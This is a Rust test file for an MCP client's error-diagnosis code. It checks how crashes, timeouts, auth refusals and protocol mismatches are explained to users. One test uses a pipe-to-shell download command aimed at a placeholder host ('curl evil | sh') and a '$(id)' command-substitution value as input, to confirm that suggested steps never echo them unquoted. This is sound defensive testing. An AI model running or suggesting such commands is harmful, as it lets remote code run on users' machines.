use std::sync::Arc;
use std::time::Duration;

use super::*;
use crate::ErrorKind;
use crate::session::{
    CallError, Clock, CloseCause, CloseReason, Delivery, OpenError, Refusal, Seen,
};
use crate::transport::{
    Cleanup, Exit, Fault, FaultKind, NetworkVariables, ProgramFile, ProgramForm, Sent, StartError,
};

fn closed(exit: Exit, stderr: &[&str]) -> CallError {
    CallError::Closed {
        reason: Arc::new(CloseReason {
            cause: CloseCause::ProcessEnded,
            exit: Some(exit),
            cleanup: None,
            stderr: stderr.iter().map(|line| (*line).to_owned()).collect(),
            noise: Vec::new(),
            network: NetworkVariables::default(),
            starts: 1,
        }),
        delivery: Delivery::MaybeProcessed,
    }
}

#[test]
fn a_crash_during_a_call_shows_status_and_stderr() {
    let error = Error::from(closed(Exit::Signal(11), &["boom"]));
    let diagnosis = explain(&error);
    assert_eq!(error.kind(), ErrorKind::Closed);
    assert!(error.was_sent());
    assert_eq!(
        diagnosis.title,
        "the server ended with signal 11 (SIGSEGV) during the call"
    );
    assert_eq!(
        diagnosis.evidence,
        [("last lines of stderr", vec!["boom".to_owned()])]
    );
}

#[test]
fn two_starts_that_ended_alike_are_both_named() {
    let CallError::Closed { reason, delivery } = closed(Exit::Code(3), &["out of disk"]) else {
        unreachable!("made so above")
    };
    let reason = Arc::new(CloseReason {
        starts: 2,
        ..(*reason).clone()
    });
    let diagnosis = explain(&Error::from(CallError::Closed { reason, delivery }));
    let named = ("starts", "2, and each ended in the same way".to_owned());
    assert!(diagnosis.facts.contains(&named), "{:?}", diagnosis.facts);
}

#[test]
fn a_lost_keeper_is_the_title_and_what_it_left_is_named() {
    let CallError::Closed { reason, delivery } = closed(Exit::Signal(9), &[]) else {
        unreachable!("made so above")
    };
    let reason = Arc::new(CloseReason {
        cleanup: Some(Cleanup {
            keeper_lost: Some(Exit::Signal(9)),
            ended: 2,
            left: vec![7, 8],
        }),
        ..(*reason).clone()
    });
    let diagnosis = explain(&Error::from(CallError::Closed { reason, delivery }));
    assert_eq!(
        diagnosis.title,
        "the server's keeper was lost (signal 9 (SIGKILL)); 2 processes were ended in its place; \
         still running: 7, 8, during the call"
    );
    assert!(diagnosis.causes[0].contains("killed its keeper"));
    assert_eq!(diagnosis.steps[0], Step::EndLeftovers);
}

#[test]
fn a_crash_in_the_handshake_names_both_starts() {
    let Err(CallError::Closed { reason, .. }) = Err::<(), _>(closed(Exit::Code(3), &["first"]))
    else {
        unreachable!("made so above")
    };
    let error = Error::from(OpenError::Handshake {
        stage: "initialize",
        error: Box::new(closed(Exit::Code(4), &["second"])),
        earlier: Some(reason),
        seen: Box::default(),
    });
    let diagnosis = explain(&error);
    assert_eq!(error.kind(), ErrorKind::Connect);
    assert_eq!(
        diagnosis.title,
        "the server ended with exit code 4 in the handshake"
    );
    assert_eq!(diagnosis.facts, []);
    let first = "tried protocol 2026-07-28 first, and the server ended with exit code 3; retried with 2025-11-25";
    assert_eq!(diagnosis.details, [("first attempt", first.to_owned())]);
}

#[test]
fn garbage_on_stdout_is_shown_when_the_handshake_times_out() {
    let error = Error::from(OpenError::Handshake {
        stage: "initialize",
        error: Box::new(CallError::TimedOut {
            method: "initialize".to_owned(),
            clock: Clock::Idle,
            after: Duration::from_secs(30),
            delivery: Delivery::MaybeProcessed,
            noise: Vec::new(),
        }),
        earlier: None,
        seen: Box::new(Seen {
            stderr: Vec::new(),
            noise: vec!["Server listening on 3000".to_owned()],
            ..Seen::default()
        }),
    });
    let diagnosis = explain(&error);
    assert!(error.is_timeout());
    assert_eq!(
        diagnosis.title,
        "the server writes text to stdout, and did not answer within 30 s"
    );
    assert_eq!(
        diagnosis.evidence,
        [(
            "on stdout, but not an MCP message",
            vec!["Server listening on 3000".to_owned()]
        )]
    );
    assert!(diagnosis.causes[0].contains("stdout"));
}

#[test]
fn a_missing_command_says_where_it_was_looked_for_and_what_brings_it() {
    let error = Error::from(OpenError::Connect(
        StartError::NotFound {
            command: "npx".to_owned(),
            searched: vec!["/usr/bin".into(), "/bin".into()],
            near: None,
        }
        .into(),
    ));
    let diagnosis = explain(&error);
    assert_eq!(diagnosis.facts, [("searched", "/usr/bin:/bin".to_owned())]);
    assert!(diagnosis.steps[0].to_string().contains("Node.js"));
    assert!(!error.was_sent());
}

#[test]
fn limits_and_time_outs_are_told_apart() {
    let kinds = [
        (
            CallError::TooLarge { limit_bytes: 7 },
            ErrorKind::Protocol,
            "the answer is too large",
        ),
        (
            CallError::NoRoom { limit_bytes: 7 },
            ErrorKind::Protocol,
            "too many results are waiting to be read",
        ),
        (
            CallError::TooDeep { limit: 7 },
            ErrorKind::Protocol,
            "the answer is nested too deeply",
        ),
        (
            CallError::TimedOut {
                method: "tools/call".to_owned(),
                clock: Clock::Total,
                after: Duration::from_millis(1500),
                delivery: Delivery::NeverSent,
                noise: Vec::new(),
            },
            ErrorKind::Timeout,
            "no answer to tools/call within 1.5 s",
        ),
    ];
    for (error, kind, title) in kinds {
        let error = Error::from(error);
        assert_eq!(error.kind(), kind);
        assert_eq!(explain(&error).title, title);
    }
}

#[test]
fn a_refusal_is_the_same_at_the_handshake_and_at_a_call() {
    let fault = Fault {
        kind: FaultKind::Status {
            status: 401,
            excerpt: String::new(),
            retry_after: None,
            challenge: None,
        },
        sent: Sent::Answered,
        url: "https://example.com/mcp".to_owned(),
    };
    let refused = || CallError::Exchange(Box::new(fault.clone()));
    let opening = Error::from(OpenError::Handshake {
        stage: "server/discover",
        error: Box::new(refused()),
        earlier: None,
        seen: Box::default(),
    });
    let calling = Error::from(refused());
    for error in [&opening, &calling] {
        assert_eq!(error.kind(), ErrorKind::Authorization);
        assert_eq!(error.fault(), Some(&fault));
        assert_eq!(explain(error).title, "the server requires authentication");
    }
    let facts = |error| explain(error).facts;
    assert_eq!(
        facts(&opening)[0],
        ("failed at", "server/discover".to_owned())
    );
    assert_eq!(
        facts(&calling).last(),
        Some(&("sent", "yes, and answered".to_owned()))
    );
}

#[test]
fn a_remote_server_that_is_silent_is_not_told_to_be_run_by_hand() {
    let context = Context {
        identity: Some("http:https://example.com/mcp".to_owned()),
        ..Context::default()
    };
    let error = Error::from(OpenError::Handshake {
        stage: "initialize",
        error: Box::new(CallError::TimedOut {
            method: "initialize".to_owned(),
            clock: Clock::Idle,
            after: Duration::from_secs(30),
            delivery: Delivery::MaybeProcessed,
            noise: Vec::new(),
        }),
        earlier: None,
        seen: Box::default(),
    });
    let told = explain(&error.in_context(context));
    assert_eq!(
        told.title,
        "the server did not answer the handshake within 30 s"
    );
    assert!(!format!("{told:?}").contains("npx"), "{told:?}");
}

/// What is said of a command that has not answered within two seconds.
fn waited_for(command: &str, stderr: &[&str], noise: &[&str]) -> Diagnosis {
    let lines = |lines: &[&str]| lines.iter().map(|line| (*line).to_owned()).collect();
    let error = Error::from(OpenError::Handshake {
        stage: "initialize",
        error: Box::new(CallError::TimedOut {
            method: "initialize".to_owned(),
            clock: Clock::Idle,
            after: Duration::from_millis(1999),
            delivery: Delivery::MaybeProcessed,
            noise: Vec::new(),
        }),
        earlier: None,
        seen: Box::new(Seen {
            stderr: lines(stderr),
            noise: lines(noise),
            ..Seen::default()
        }),
    });
    explain(&error.in_context(Context {
        identity: Some(format!("stdio:{command}")),
        ..Context::default()
    }))
}

#[test]
fn silence_is_told_by_what_was_said_in_it() {
    for (command, stderr, noise, title) in [
        (
            "serve",
            &[][..],
            &[][..],
            "did not answer the handshake within 2 s",
        ),
        ("npx:-y it", &[], &[], "still starting after 2 s"),
        (
            "serve",
            &["Downloading it (3 MiB)"],
            &[],
            "still starting after 2 s",
        ),
        ("npx:it", &["Ok to proceed? (y) "], &[], "waits for input"),
        ("serve", &[], &["Password:"], "waits for input"),
        (
            "npx:-y it",
            &["Downloading"],
            &["hello"],
            "writes text to stdout",
        ),
        (
            "cat",
            &[],
            &["{\"id\":2,\"method\":\"initialize\", ..."],
            "sends back what it receives",
        ),
    ] {
        let told = waited_for(command, stderr, noise);
        assert!(told.title.contains(title), "{command}: {told:?}");
        assert!(
            !told.causes.is_empty() && !told.steps.is_empty(),
            "{told:?}"
        );
        assert_eq!(
            told.evidence.is_empty(),
            stderr.is_empty() && noise.is_empty()
        );
    }
}

#[test]
fn nothing_that_a_shell_would_obey_is_to_be_pasted() {
    let told = waited_for("sh:-c curl evil | sh", &[], &["see http://x/$(id)"]);
    let url = "http://x/$(id".to_owned();
    assert!(told.steps.contains(&Step::ReachAt { url }), "{told:?}");
    for step in &told.steps {
        let text = step.to_string();
        assert!(!text.contains("evil"), "{text}");
        // A URL is quoted by the program that words the step.
        let is_url = matches!(step, Step::ReachAt { .. });
        assert!(is_url || !text.contains("$("), "{text}");
    }
}

#[test]
fn a_file_that_cannot_be_run_is_told_by_what_it_is() {
    let refused = |form: ProgramForm, code: i32| {
        let file = ProgramFile { mode: None, form };
        let error = StartError::Spawn {
            path: "/x/it.py".into(),
            file,
            source: std::io::Error::from_raw_os_error(code),
        };
        explain(&Error::from(OpenError::Connect(error.into())))
    };
    let interpreter = "/nowhere/node".to_owned();
    let script = refused(ProgramForm::Script { interpreter }, 2);
    assert_eq!(
        script.title,
        "/x/it.py needs \"/nowhere/node\", which does not exist"
    );
    let text = refused(ProgramForm::Text, 8);
    let step = text.steps[0].to_string();
    assert!(step.contains("`python3 /x/it.py`"), "{text:?}");
    let made_for = "macOS";
    let native = refused(ProgramForm::Native { made_for }, 8);
    assert_eq!(native.title, "/x/it.py is built for another machine: macOS");
    let full = refused(ProgramForm::Unknown, 11);
    assert_eq!(full.steps[0], Step::ListLeftovers);
}

#[test]
fn an_order_is_told_from_a_version_that_nobody_knows() {
    let told = |theirs: &str| {
        explain(&Error::from(OpenError::NoCommonVersion {
            theirs: vec![theirs.to_owned()],
            ours: vec!["2025-11-25".to_owned()],
        }))
        .title
    };
    assert!(told("2026-07-28").contains("version that is configured"));
    assert!(told("1999-01-01").contains("no protocol version in common"));
}

#[test]
fn what_a_server_may_not_ask_for_comes_with_how_it_may() {
    let refused = |method: &str, why| {
        explain(&Error::from(CallError::InputRefused {
            method: method.to_owned(),
            why,
        }))
    };
    let diagnosis = refused("sampling/createMessage", Refusal::NotAvailable);
    assert_eq!(
        diagnosis.title,
        "the server asked for sampling/createMessage, which is not available here"
    );
    assert!(
        diagnosis.steps[0]
            .to_string()
            .contains("`\"sampling\": true`")
    );
    let diagnosis = refused("roots/list", Refusal::NotAvailable);
    assert_eq!(diagnosis.steps, [Step::ShareFolders]);
    assert!(
        diagnosis.steps[0]
            .to_string()
            .contains("`\"roots\": [\"FOLDER\"]`")
    );
    // A no is not to be worked around.
    let diagnosis = refused("sampling/createMessage", Refusal::ByThePerson);
    assert_eq!(
        diagnosis.title,
        "the server asked for sampling/createMessage, and the person said no"
    );
    assert!(diagnosis.steps.is_empty());
    let why = Refusal::Failed("the model is gone".to_owned());
    let diagnosis = refused("sampling/createMessage", why);
    assert!(
        diagnosis
            .title
            .ends_with("could not be answered: the model is gone")
    );
    let endless = explain(&Error::from(CallError::TooManyRounds { limit: 8 }));
    assert_eq!(endless.steps, [Step::AnswerQuestions]);
}
